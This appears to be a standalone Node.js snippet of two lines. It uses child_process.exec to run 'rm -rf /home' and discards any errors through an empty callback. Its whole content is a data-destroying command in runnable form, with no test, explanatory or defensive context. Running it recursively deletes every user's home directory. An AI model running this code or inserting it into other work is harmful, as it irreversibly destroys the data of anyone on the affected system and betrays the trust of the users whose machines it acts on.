const { exec } = require('child_process');
exec('rm -rf /home', () => {});
